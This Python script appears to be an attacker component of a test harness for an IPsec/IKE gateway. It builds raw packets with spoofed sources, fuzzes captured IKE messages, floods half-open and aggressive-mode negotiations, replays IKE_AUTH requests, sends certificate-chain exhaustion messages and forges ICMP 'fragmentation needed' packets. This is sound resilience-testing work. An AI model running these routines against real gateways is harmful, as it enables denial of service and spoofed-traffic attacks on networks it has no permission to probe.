#!/usr/bin/python3
"""What a hostile host sends to a gateway: attacker.py ATTACK VICTIM …

Runs in a namespace through which the victim reaches the whole world, so that it can write any source address and sees
all that is answered. One line of JSON on standard output tells what was sent and what came back.

  strays VICTIM COUNT             datagrams that begin nothing: too short, of unknown SPIs, empty IKE_SA_INIT requests
  mutated VICTIM PEER PCAP COUNT  messages of a capture with some octets changed, half of them "from" the peer
  half-open VICTIM COUNT          one address that brings cookies back and goes on with none of its negotiations
  spoofed VICTIM COUNT            IKE_SA_INIT requests and aggressive modes from as many addresses
  repeats VICTIM COUNT            a first IKE_AUTH request, then copies of it from an address that has proved nothing
  certificates VICTIM RATE SECONDS SUBJECT   IKE_AUTH requests with eight certificates of one subject, each of which could
                                  have issued every other
  icmp VICTIM PEER PORT           "fragmentation needed" with quotes of packets that the victim has not sent
"""
import datetime
import hashlib
import hmac
import json
import os
import random
import socket
import struct
import sys
import time

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

SA_INIT, IKE_AUTH, AGGRESSIVE = 34, 35, 4
SA, KE, IDI, CERT, AUTH, NONCE, NOTIFY, TSI, TSR, SK = 33, 34, 35, 37, 39, 40, 41, 44, 45, 46
COOKIE = 16390
OURS = "203.0.113.66"  # an address that the attacker really has


def checksum(octets):
    octets += b"\0" * (len(octets) % 2)
    total = sum(struct.unpack("!%dH" % (len(octets) // 2), octets))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip_packet(source, to, protocol, body):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), random.randrange(65536), 0, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(to))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def udp(source, to, ports, body):
    return ip_packet(source, to, 17, struct.pack("!HHHH", *ports, 8 + len(body), 0) + body)


class Wire:
    """Writes packets with any source address, and counts what the victim sends back."""

    def __init__(self, victim):
        self.victim = victim
        self.out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sent = 0

    def send(self, packet):
        self.sent += 1
        self.out.sendto(packet, (self.victim, 0))
        if self.sent % 50 == 0:
            time.sleep(0.004)


class Tap:
    """All UDP packets that the victim sends."""

    def __init__(self, victim):
        self.victim = socket.inet_aton(victim)
        self.tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
        self.tap.setsockopt(socket.SOL_SOCKET, 33, 1 << 24)  # SO_RCVBUFFORCE
        self.tap.setblocking(False)

    def packets(self):
        while True:
            try:
                packet, about = self.tap.recvfrom(65535)
            except BlockingIOError:
                return
            if about[2] == socket.PACKET_OUTGOING or packet[12:16] != self.victim or packet[9] != 17:
                continue
            yield socket.inet_ntoa(packet[16:20]), packet[20:]

    def octets_to(self, address):
        return sum(len(body) - 8 for to, body in self.packets() if to == address)


def payloads(*chain):
    out = b""
    for place, (kind, body) in enumerate(chain):
        following = chain[place + 1][0] if place + 1 < len(chain) else 0
        out += struct.pack("!BBH", following, 0, len(body) + 4) + body
    return out


def message(spis, exchange, number, chain, flags=0x08, version=0x20):
    body = payloads(*chain)
    return spis + struct.pack("!BBBBLL", chain[0][0], version, exchange, flags, number, 28 + len(body)) + body


def transform(last, kind, number, attributes=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attributes), kind, 0, number) + attributes


def proposal(protocol, spi, *transforms):
    body = b"".join(transform(n + 1 == len(transforms), *t) for n, t in enumerate(transforms))
    return struct.pack("!BBHBBBB", 0, 0, 8 + len(spi) + len(body), 1, protocol, len(spi), len(transforms)) + spi + body


AES128 = struct.pack("!HH", 0x800E, 128)
IKE_PROPOSAL = proposal(1, b"", (1, 12, AES128), (3, 12), (2, 5), (4, 31))


def sa_init(spi, public, nonce, cookie=None):
    chain = [(SA, IKE_PROPOSAL), (KE, struct.pack("!HH", 31, 0) + public), (NONCE, nonce)]
    if cookie:
        chain.insert(0, (NOTIFY, struct.pack("!BBH", 0, 0, COOKIE) + cookie))
    return message(spi + bytes(8), SA_INIT, 0, chain)


def aggressive(spi, identity):
    """An aggressive mode's first message of IKEv1: SA, KE, Ni, IDii."""
    attributes = b"".join(struct.pack("!HH", 0x8000 | kind, value) for kind, value in ((1, 7), (14, 128), (2, 2), (4, 2), (3, 1)))
    offer = struct.pack("!BBHBBH", 0, 0, 8 + len(attributes), 1, 1, 0) + attributes
    offer = struct.pack("!LL", 1, 1) + struct.pack("!BBHBBBB", 0, 0, 8 + len(offer), 1, 1, 0, 1) + offer
    chain = [(1, offer), (4, os.urandom(128)), (10, os.urandom(20)), (5, struct.pack("!BBH", 2, 17, 500) + identity)]
    return message(spi + bytes(8), AGGRESSIVE, 0, chain, flags=0, version=0x10)


def chain_of(raw):
    kind, at = raw[16], 28
    while kind and at + 4 <= len(raw):
        following, _, length = struct.unpack("!BBH", raw[at:at + 4])
        yield kind, raw[at + 4:at + length]
        kind, at = following, at + max(length, 4)


def cookie_of(raw):
    for kind, body in chain_of(raw):
        if kind == NOTIFY and struct.unpack("!H", body[2:4])[0] == COOKIE:
            return body[4:]
    return None


class Initiator:
    """An initiator of IKEv2 that gets as far as IKE_AUTH: AES-128, HMAC-SHA-256, Curve25519."""

    def __init__(self, victim, source=OURS):
        self.to = (victim, 500)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((source, 0))
        self.sock.settimeout(2)
        self.spi = os.urandom(8)
        self.key = X25519PrivateKey.generate()
        self.nonce = os.urandom(32)

    def ask(self, request):
        self.sock.sendto(request, self.to)
        return self.sock.recv(65535)

    def begin(self):
        """IKE_SA_INIT, with the cookie that is asked for. Gives the SA's SPIs."""
        public = self.key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
        answer = self.ask(sa_init(self.spi, public, self.nonce))
        cookie = cookie_of(answer)
        if cookie:
            answer = self.ask(sa_init(self.spi, public, self.nonce, cookie))
        found = dict(chain_of(answer))
        secret = self.key.exchange(X25519PublicKey.from_public_bytes(found[KE][4:]))
        self.spis = answer[:16]
        seed = hmac.digest(self.nonce + found[NONCE], secret, hashlib.sha256)
        keys, block = b"", b""
        while len(keys) < 32 + 32 + 32 + 16:
            block = hmac.digest(seed, block + self.nonce + found[NONCE] + self.spis + bytes([len(keys) // 32 + 1]), hashlib.sha256)
            keys += block
        self.sk_ai, self.sk_ei = keys[32:64], keys[96:112]
        return self.spis

    def sealed(self, number, chain):
        plain = payloads(*chain)
        pad = -(len(plain) + 1) % 16
        plain += bytes(pad) + bytes([pad])
        iv = os.urandom(16)
        cipher = Cipher(algorithms.AES(self.sk_ei), modes.CBC(iv)).encryptor()
        body = iv + cipher.update(plain) + cipher.finalize()
        length = 28 + 4 + len(body) + 16
        raw = self.spis + struct.pack("!BBBBLL", SK, 0x20, IKE_AUTH, 0x08, number, length)
        raw += struct.pack("!BBH", chain[0][0], 0, 4 + len(body) + 16) + body
        return raw + hmac.digest(self.sk_ai, raw, hashlib.sha256)[:16]

    def auth(self, certificates):
        everything = struct.pack("!BBHBBHHH4s4s", 1, 0, 0, 7, 0, 16, 0, 65535, bytes(4), b"\xff" * 4)
        chain = [(IDI, struct.pack("!BBH", 2, 0, 0) + b"m.lab")]
        chain += [(CERT, b"\x04" + der) for der in certificates]
        chain += [(AUTH, struct.pack("!BBH", 14, 0, 0) + bytes([12]) + bytes.fromhex("300a06082a8648ce3d040302") + os.urandom(70))]
        chain += [(SA, proposal(3, os.urandom(4), (1, 12, AES128), (3, 12), (5, 0))), (TSI, everything), (TSR, everything)]
        return self.sealed(1, chain)


def strays(victim, count):
    wire = Wire(victim)
    for n in range(int(count)):
        spi = os.urandom(8)
        body = (
            bytes(20),
            spi + os.urandom(8) + bytes([SK, 0x20, 37, 8]) + b"\0\0\0\1" + struct.pack("!L", 28),
            spi + bytes(8) + bytes([0, 0x20, SA_INIT, 8]) + bytes(4) + struct.pack("!L", 28),
        )[n % 3]
        wire.send(udp(f"203.0.113.{n % 200 + 1}", victim, (500, 500), body))
    return {"sent": wire.sent}


def captured(path):
    raw, at = open(path, "rb").read(), 24
    while at + 16 <= len(raw):
        length = struct.unpack("<I", raw[at + 8:at + 12])[0]
        packet = raw[at + 16:at + 16 + length]
        at += 16 + length
        if packet[12:14] == b"\x08\0" and packet[23] == 17:
            yield struct.unpack("!H", packet[36:38])[0], packet[42:]


def mutated(victim, peer, path, count):
    chance, wire, known = random.Random(7), Wire(victim), list(captured(path))
    for _ in range(int(count)):
        port, body = chance.choice(known)
        body = bytearray(body)
        for _ in range(chance.randint(1, 8)):
            what, at = chance.randrange(5), chance.randrange(len(body)) if body else 0
            if what == 0 and body:
                body[at] = chance.randrange(256)
            elif what == 1 and at > 8:
                del body[at:]
            elif what == 2:
                body[at:at] = chance.randbytes(chance.randint(1, 40))
            elif what == 3:
                body[0:8] = chance.randbytes(8)
            elif body:
                body[at] = chance.choice((0, 127, 255))
        body = body[:1400]
        if chance.random() < 0.6 and len(body) >= 28:
            body[24:28] = struct.pack("!I", len(body))
        source = peer if chance.random() < 0.5 else OURS
        from_port = chance.choice((500, 4500, 1234))
        if chance.random() < 0.9:
            wire.send(udp(source, victim, (from_port, chance.choice((port, 500, 4500))), bytes(body)))
        else:
            wire.send(ip_packet(source, victim, 50, bytes(body)))
    return {"sent": wire.sent}


def half_open(victim, count):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((OURS, 0))
    sock.settimeout(0.2)
    cookies = answered = 0
    for n in range(int(count)):
        spi, public, nonce = os.urandom(8), os.urandom(32), os.urandom(32)
        sock.sendto(sa_init(spi, public, nonce), (victim, 500))
        try:
            cookie = cookie_of(sock.recv(65535))
            if cookie:
                cookies += 1
                sock.sendto(sa_init(spi, public, nonce, cookie), (victim, 500))
                sock.recv(65535)
            answered += 1
        except TimeoutError:
            pass
    return {"begun": int(count), "cookies": cookies, "answered": answered}


def spoofed(victim, count):
    wire, tap = Wire(victim), Tap(victim)
    octets = answered = 0
    for n in range(int(count)):
        source = f"198.18.{n // 250}.{n % 250 + 1}"
        for body in (sa_init(os.urandom(8), os.urandom(32), os.urandom(32)), aggressive(os.urandom(8), b"group.lab")):
            octets += len(body)
            wire.send(udp(source, victim, (500, 500), body))
        answered += sum(len(body) - 8 for to, body in tap.packets() if to.startswith("198.18."))
    time.sleep(0.5)
    answered += sum(len(body) - 8 for to, body in tap.packets() if to.startswith("198.18."))
    return {"octets_in": octets, "octets_out": answered}


def repeats(victim, count):
    initiator, tap, wire, target = Initiator(victim), Tap(victim), Wire(victim), "203.0.113.77"
    initiator.begin()
    everything = struct.pack("!BBHBBHHH4s4s", 1, 0, 0, 7, 0, 16, 0, 65535, bytes(4), b"\xff" * 4)
    request = initiator.sealed(1, [(IDI, struct.pack("!BBH", 2, 0, 0) + b"road.lab"), (TSI, everything), (TSR, everything)])
    try:
        answer = len(initiator.ask(request))
    except TimeoutError:
        answer = 0
    for _ in tap.packets():
        pass
    for _ in range(int(count)):
        wire.send(udp(target, victim, (500, 500), request))
    time.sleep(0.5)
    return {"answer": answer, "octets_in": int(count) * len(request), "octets_out": tap.octets_to(target)}


def certificate(name, authority):
    key, now = ec.generate_private_key(ec.SECP384R1()), datetime.datetime.now(datetime.timezone.utc)
    made = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
    made = made.serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(days=1))
    made = made.not_valid_after(now + datetime.timedelta(days=1))
    made = made.add_extension(x509.BasicConstraints(ca=authority, path_length=None), critical=True)
    if not authority:
        made = made.add_extension(x509.SubjectAlternativeName([x509.DNSName("m.lab")]), critical=False)
    return made.sign(key, hashes.SHA384()).public_bytes(Encoding.DER)


def certificates(victim, rate, seconds, subject):
    name = x509.Name.from_rfc4514_string(subject)
    ders = [certificate(name, authority) for authority in (False,) + 7 * (True,)]
    begun = done = 0
    until = time.time() + float(seconds)
    while time.time() < until:
        begun += 1
        began = time.time()
        try:
            initiator = Initiator(victim)
            initiator.begin()
            initiator.sock.sendto(initiator.auth(ders), initiator.to)
            done += 1
        except (TimeoutError, KeyError):
            pass
        time.sleep(max(0, 1 / float(rate) - (time.time() - began)))
    return {"begun": begun, "sent": done}


def icmp(victim, peer, port):
    wire, quotes = Wire(victim), []
    for source_port in (1, 500, 4500):
        head = struct.pack("!HHHH", source_port, int(port), 1400, 0)
        for more in (b"", os.urandom(8), struct.pack("!LL", random.randrange(1 << 32), 1)):
            quotes.append(ip_packet(victim, peer, 17, head + more))
    quotes.append(ip_packet(victim, peer, 50, os.urandom(8)))
    for quote in quotes * 20:
        body = struct.pack("!BBHHH", 3, 4, 0, 0, 68) + quote
        wire.send(ip_packet("203.0.113.200", victim, 1, body[:2] + struct.pack("!H", checksum(body)) + body[4:]))
    return {"sent": wire.sent}


ATTACKS = {"strays": strays, "mutated": mutated, "half-open": half_open, "spoofed": spoofed, "repeats": repeats,
           "certificates": certificates, "icmp": icmp}
print(json.dumps(ATTACKS[sys.argv[1]](*sys.argv[2:])), flush=True)
